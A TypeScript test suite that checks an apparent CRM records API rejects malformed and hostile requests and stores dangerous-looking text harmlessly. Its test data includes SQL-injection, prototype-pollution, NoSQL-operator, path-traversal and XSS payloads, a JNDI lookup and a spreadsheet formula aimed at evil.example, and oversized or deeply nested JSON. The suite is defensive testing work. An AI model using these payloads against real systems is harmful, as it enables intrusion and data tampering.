// What nobody should send: each gets a problem that says what is wrong, and nothing is half applied.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type HostileGround, openHostileGround, type Sent } from "./hostile-ground.ts";

let ground: HostileGround;

beforeAll(async () => {
  ground = await openHostileGround();
});

afterAll(() => ground?.close());

const send = (sent: Sent) => ground.send(sent);

async function countPeople(): Promise<number> {
  const list = await send({ method: "GET", path: "/people?total=true&limit=1" });
  return JSON.parse(list.text).total.count;
}

const nested = (depth: number) => `{"firstName":${"[".repeat(depth)}${"]".repeat(depth)}}`;
const person = (json: string): Sent => ({ body: json });

const refused: [name: string, sent: Sent, status: number, code: string][] = [
  ["JSON that ends early", person('{"firstName":'), 400, "platform.bad_request"],
  ["JSON with a trailing comma", person('{"firstName":"A",}'), 400, "platform.bad_request"],
  ["text that is no JSON", person("firstName=A"), 400, "platform.bad_request"],
  [
    "invalid UTF-8",
    { body: Buffer.from('{"firstName":"\xff\xfe"}', "latin1") },
    400,
    "platform.bad_request",
  ],
  ["UTF-16", { body: Buffer.from('{"firstName":"A"}', "utf16le") }, 400, "platform.bad_request"],
  [
    "a prototype",
    person('{"__proto__":{"isAdmin":true},"firstName":"A"}'),
    400,
    "platform.bad_request",
  ],
  [
    "a prototype, deeper",
    person('{"custom":{"__proto__":{"isAdmin":true}}}'),
    400,
    "platform.bad_request",
  ],
  [
    "a prototype by its constructor",
    person('{"constructor":{"prototype":{"isAdmin":true}}}'),
    400,
    "platform.bad_request",
  ],
  [
    "a prototype, escaped",
    person('{"\\u005f_proto__":{"isAdmin":true}}'),
    400,
    "platform.bad_request",
  ],
  ["lists in lists, 100 deep", person(nested(100)), 400, "platform.too_deep"],
  ["lists in lists, 100,000 deep", person(nested(100_000)), 400, "platform.too_deep"],
  ["10 MB", person(`{"firstName":"${"a".repeat(10_000_000)}"}`), 413, "platform.body_too_large"],
  [
    "a form",
    { body: "firstName=A", headers: { "content-type": "application/x-www-form-urlencoded" } },
    415,
    "platform.media_type",
  ],
  ["text", { body: "{}", headers: { "content-type": "text/plain" } }, 415, "platform.media_type"],
  [
    "a file where none is taken",
    { body: "a,b", headers: { "content-type": "text/csv" } },
    415,
    "platform.media_type",
  ],
  ["JSON where a file is taken", { path: "/imports", body: "{}" }, 415, "platform.media_type"],
  ["nothing", {}, 422, "records.not_an_object"],
  ["a list instead of a record", person("[]"), 422, "records.not_an_object"],
  ["null instead of a record", person("null"), 422, "records.not_an_object"],
  ["an unknown field", person('{"firstname":"A"}'), 422, "records.invalid"],
  ["a method of all objects as a field", person('{"toString":"A"}'), 422, "records.invalid"],
  ["a wrong type", person('{"firstName":{"$ne":null}}'), 422, "records.invalid"],
  ["a NUL character", person('{"firstName":"a\\u0000b"}'), 422, "records.invalid"],
  [
    "a number beyond all integers",
    { path: "/companies", body: '{"name":"A","employees":1e400}' },
    422,
    "records.invalid",
  ],
  [
    "an integer beyond the column",
    { path: "/companies", body: '{"name":"A","employees":9007199254740993}' },
    422,
    "records.invalid",
  ],
  [
    "a day that never was",
    { path: "/deals", body: '{"name":"A","expectedCloseOn":"2026-02-30"}' },
    422,
    "records.invalid",
  ],
  [
    "an unknown query parameter",
    { method: "GET", path: "/people?limt=3" },
    422,
    "platform.invalid_input",
  ],
  [
    "one where none is taken",
    { method: "GET", path: "/me?debug=1" },
    422,
    "platform.invalid_input",
  ],
  [
    "a parameter given twice",
    { method: "GET", path: "/people?limit=1&limit=2" },
    422,
    "platform.invalid_input",
  ],
  [
    "a prototype in the query",
    { method: "GET", path: "/people?__proto__=1" },
    422,
    "platform.invalid_input",
  ],
  [
    "a filter that is no JSON",
    { method: "GET", path: "/people?filter=city" },
    422,
    "records.bad_filter",
  ],
  [
    "a filter 5,000 deep",
    {
      method: "GET",
      path: `/people?filter=${encodeURIComponent(`${'{"and":['.repeat(900)}${"]}".repeat(900)}`)}`,
    },
    422,
    "records.bad_filter",
  ],
  [
    "SQL in a sort",
    { method: "GET", path: "/people?sort=id;drop%20table%20records.people" },
    422,
    "records.unknown_field",
  ],
  [
    "SQL in a filter's field",
    { method: "GET", path: `/people?filter=${encodeURIComponent('{"id) OR (1=1":"x"}')}` },
    422,
    "records.unknown_field",
  ],
  [
    "a cursor that is none",
    { method: "GET", path: "/people?cursor=%00" },
    422,
    "records.bad_cursor",
  ],
  [
    "an id that is none",
    { method: "GET", path: "/people/..%2f..%2fetc%2fpasswd" },
    404,
    "platform.not_found",
  ],
  [
    "an address that is not UTF-8",
    { method: "GET", path: "/people/%ff" },
    400,
    "platform.bad_request",
  ],
  ["an address that does not exist", { method: "GET", path: "/nothing" }, 404, "platform.no_route"],
  [
    "a method that is not there",
    { method: "PUT", path: "/people" },
    405,
    "platform.method_not_allowed",
  ],
  [
    "no credentials",
    { method: "GET", headers: { authorization: "" } },
    401,
    "access.bad_authorization",
  ],
  [
    "a credential of another kind",
    { method: "GET", headers: { authorization: "Basic YTpi" } },
    401,
    "access.bad_authorization",
  ],
  [
    "a key that is not known",
    { method: "GET", headers: { authorization: "Bearer rk_unknown-unknown-unknown" } },
    401,
    "access.unknown_key",
  ],
  [
    "an Idempotency-Key with a space",
    { body: "{}", headers: { "idempotency-key": "a b" } },
    422,
    "platform.bad_idempotency_key",
  ],
];

describe("a request that is wrong", () => {
  it.each(refused)("%s", async (_name, sent, status, code) => {
    const before = await countPeople();
    const answer = await send(sent);
    expect([answer.status, answer.problem?.code]).toEqual([status, code]);
    expect(answer.problem).toMatchObject({
      status,
      title: expect.any(String),
      detail: expect.stringMatching(/.{15}/),
    });
    expect(answer.problem.requestId).toBe(answer.headers["x-request-id"]);
    expect(answer.headers["cache-control"]).toBe("no-store");
    expect(answer.text).not.toMatch(/node_modules|at Object|postgres|SELECT /);
    expect(await countPeople()).toBe(before);
  });

  it("names the methods that there are", async () => {
    const answer = await send({ method: "DELETE", path: "/people" });
    expect([answer.status, answer.headers.allow]).toEqual([405, "GET, POST, HEAD, OPTIONS"]);
    const options = await send({ method: "OPTIONS", path: "/people" });
    expect([options.status, options.headers.allow]).toEqual([204, "GET, POST, HEAD, OPTIONS"]);
  });

  it("has nothing at an address that is longer than any id", async () => {
    const answer = await send({ method: "GET", path: `/people/${"a".repeat(600)}` });
    expect([404, 414]).toContain(answer.status);
    expect(answer.problem).not.toBeNull();
  });

  it("has HEAD wherever there is GET, without a body", async () => {
    const answer = await send({ method: "HEAD", path: "/people" });
    expect([answer.status, answer.text]).toEqual([200, ""]);
  });
});

describe("text that looks dangerous and is none", () => {
  const harmless = [
    "Robert'); DROP TABLE records.people;--",
    '=HYPERLINK("http://evil.example")',
    "<script>alert(1)</script>",
    ["$", "{jndi:ldap://evil.example/a}"].join(""),
    "\u202Egnp.exe",
    "👩‍👩‍👧‍👦 Ünï©ødé",
    "a\u0301\u0327\u0316",
    "../../etc/passwd",
  ];

  it.each(harmless)("keeps %s as it is", async (text) => {
    const made = await send({ body: JSON.stringify({ firstName: text }) });
    expect(made.status).toBe(201);
    const { id } = JSON.parse(made.text);
    const read = await send({ method: "GET", path: `/people/${id}` });
    expect(JSON.parse(read.text).firstName).toBe(text.normalize("NFC"));
  });

  it("takes the last of a key that is there twice, and pollutes nothing", async () => {
    const made = await send({ body: '{"firstName":"first","firstName":"last"}' });
    expect(JSON.parse(made.text).firstName).toBe("last");
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });
});
